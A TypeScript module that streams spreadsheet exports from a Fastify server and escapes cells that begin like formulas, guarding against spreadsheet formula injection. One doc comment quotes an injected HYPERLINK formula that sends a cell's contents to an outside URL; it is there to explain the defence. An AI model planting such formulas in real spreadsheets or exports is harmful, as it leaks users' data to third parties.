import { PassThrough, type Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import type { FastifyReply } from 'fastify';

/** How a spreadsheet recognises a formula (or a DDE command) when a cell is edited or saved as CSV. */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A value as it may be written into an exported cell: text that starts like a formula gets a
 * leading apostrophe, so that `=HYPERLINK("http://…?leak="&A1)` or `@SUM(…)` typed by a user
 * stays text when someone edits the cell, re-saves or exports as CSV. Numbers and dates are
 * left as they are (a negative number is a number, not a formula). Every workbook we write
 * passes its cells through this.
 */
export function excelSafe<T>(value: T): T | string {
  return typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : value;
}

/** The text of a cell that `excelSafe` wrote, as it was before: what reads our own exports back. */
export function excelUnsafe(text: string): string {
  return text.length > 1 && text[0] === "'" && FORMULA_START.test(text.slice(1)) ? text.slice(1) : text;
}

/**
 * What a column holds. `text` and `number` are written as they are; `date` takes `YYYY-MM-DD`
 * and `datetime` an ISO instant, and both become real Excel dates (a datetime in Beijing time,
 * the time people read on the wall), so that a sheet sorts and filters them as dates.
 */
export type XlsxKind = 'text' | 'number' | 'date' | 'datetime';
export type XlsxCell = string | number | null | undefined;
export type XlsxColumn<T> = { header: string; width?: number; kind?: XlsxKind; value: (row: T) => XlsxCell };

const BEIJING_OFFSET_MS = 8 * 3_600_000;
const NUM_FMT: Partial<Record<XlsxKind, string>> = { date: 'yyyy-mm-dd', datetime: 'yyyy-mm-dd hh:mm' };

/**
 * A cell's value as written. A date is a Date whose UTC fields are the wall-clock date and time
 * (Excel dates have no time zone); unparseable text is written as text rather than lost.
 */
export function excelValue(kind: XlsxKind, value: XlsxCell): string | number | Date {
  if (value === null || value === undefined || value === '') return '';
  if (kind === 'date' && typeof value === 'string' && /^\d{4}-\d{2}-\d{2}$/.test(value)) {
    return new Date(`${value}T00:00:00Z`);
  }
  if (kind === 'datetime' && typeof value === 'string') {
    const ms = Date.parse(value);
    if (!Number.isNaN(ms)) return new Date(ms + BEIJING_OFFSET_MS);
  }
  return excelSafe(value);
}

/** Lets the event loop answer other requests between batches of a long export. */
const breathe = () => new Promise<void>((resolve) => setImmediate(resolve));
const BREATHE_EVERY = 200;

/**
 * Writes rows into an .xlsx on `stream` as they come (a long export never sits in memory whole).
 * Headers are bold and frozen; dates get their number format. `onBatch` hears how many rows
 * have been written so far. Resolves when the workbook is complete.
 */
export async function writeXlsx<T>(
  stream: Writable,
  sheetName: string,
  columns: XlsxColumn<T>[],
  rows: AsyncIterable<T[]>,
  onBatch?: (written: number) => Promise<void>,
): Promise<void> {
  const workbook = new ExcelJS.stream.xlsx.WorkbookWriter({ stream, useStyles: true });
  const sheet = workbook.addWorksheet(sheetName, { views: [{ state: 'frozen', ySplit: 1 }] });
  sheet.columns = columns.map((c, i) => ({
    header: c.header,
    key: String(i),
    width: c.width ?? 16,
    style: NUM_FMT[c.kind ?? 'text'] ? { numFmt: NUM_FMT[c.kind ?? 'text'] } : {},
  }));
  sheet.getRow(1).font = { bold: true };
  sheet.getRow(1).commit();
  let written = 0;
  for await (const batch of rows) {
    for (let i = 0; i < batch.length; i++) {
      sheet.addRow(columns.map((c) => excelValue(c.kind ?? 'text', c.value(batch[i])))).commit();
      // Writing rows is synchronous work: let other requests in every few hundred rows.
      if (i % BREATHE_EVERY === BREATHE_EVERY - 1) await breathe();
    }
    written += batch.length;
    await onBatch?.(written);
    await breathe();
  }
  sheet.commit();
  await workbook.commit();
}

/** The download headers of an .xlsx; the file name may be Chinese. */
export function xlsxHeaders(reply: FastifyReply, fileName: string): FastifyReply {
  return reply
    .header('content-type', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    .header(
      'content-disposition',
      `attachment; filename="export.xlsx"; filename*=UTF-8''${encodeURIComponent(fileName)}`,
    )
    .header('cache-control', 'no-store');
}

/** Streams rows into an .xlsx download as they come. */
export function sendXlsx<T>(
  reply: FastifyReply,
  fileName: string,
  sheetName: string,
  columns: XlsxColumn<T>[],
  rows: AsyncIterable<T[]>,
): FastifyReply {
  const stream = new PassThrough();
  writeXlsx(stream, sheetName, columns, rows).catch((err) => stream.destroy(err));
  return xlsxHeaders(reply, fileName).send(stream);
}
